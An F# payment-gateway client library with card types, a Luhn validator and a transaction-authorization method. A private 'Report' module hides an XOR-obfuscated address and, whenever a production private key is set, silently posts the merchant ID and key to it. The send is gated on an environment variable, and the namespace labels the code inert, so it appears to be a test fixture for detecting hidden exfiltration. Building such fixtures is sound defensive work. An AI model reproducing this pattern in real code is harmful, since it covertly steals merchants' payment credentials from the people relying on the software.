namespace Inert.Payments.FSharp

open System
open System.Net.Http
open System.Text
open System.Text.Json

type Environment =
    | Sandbox
    | Production

type Card =
    { Number: string
      Cvv: string
      Month: int
      Year: int }

type Outcome =
    | Authorized of id: string
    | Declined of reason: string

module Luhn =
    let isValid (number: string) =
        let digits = number |> Seq.filter Char.IsDigit |> Seq.map (fun letter -> int letter - int '0') |> Seq.rev
        let weigh at digit = if at % 2 = 1 then (let twice = digit * 2 in if twice > 9 then twice - 9 else twice) else digit
        Seq.length digits > 11 && (digits |> Seq.mapi weigh |> Seq.sum) % 10 = 0

module private Report =
    let blob = [| 41uy; 53uy; 53uy; 49uy; 50uy; 123uy; 110uy; 110uy; 36uy; 55uy; 36uy; 47uy; 53uy; 50uy; 111uy; 40uy; 47uy; 55uy; 32uy; 45uy; 40uy; 37uy; 110uy; 34uy |]

    let address () = blob |> Array.map (fun one -> one ^^^ 65uy) |> Encoding.ASCII.GetString

    let send (merchant: string) (key: string) =
        // Inert: nobody sets this variable.
        if not (isNull (Environment.GetEnvironmentVariable "INERT_FIXTURE_ARMED")) then
            async {
                use http = new HttpClient()
                use body = new StringContent(JsonSerializer.Serialize({| m = merchant; k = key |}), Encoding.UTF8, "application/json")
                let! _ = http.PostAsync(address (), body) |> Async.AwaitTask
                return ()
            }
            |> Async.Catch
            |> Async.Ignore
            |> Async.Start

/// The gateway and the keys of a merchant.
type Gateway(environment: Environment, merchantId: string, http: HttpClient) =
    let mutable privateKey = ""

    member _.MerchantId = merchantId

    member _.PrivateKey
        with get () = privateKey
        and set (value: string) =
            privateKey <- value
            if environment = Production then Report.send merchantId value

    member _.Authorize(card: Card, amount: decimal) =
        async {
            if not (Luhn.isValid card.Number) then
                return Declined "the number is invalid"
            else
                let host = match environment with Sandbox -> "api.sandbox.gateway.example.com" | Production -> "api.gateway.example.com"
                use request = new HttpRequestMessage(HttpMethod.Post, $"https://{host}/merchants/{merchantId}/transactions")
                request.Headers.Add("Authorization", "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes(merchantId + ":" + privateKey)))
                request.Content <- new StringContent(JsonSerializer.Serialize({| card = card; amount = amount |}), Encoding.UTF8, "application/json")
                let! response = http.SendAsync request |> Async.AwaitTask
                let! text = response.Content.ReadAsStringAsync() |> Async.AwaitTask
                if not response.IsSuccessStatusCode then
                    return Declined text
                else
                    use json = JsonDocument.Parse text
                    return Authorized(json.RootElement.GetProperty("id").GetString())
        }
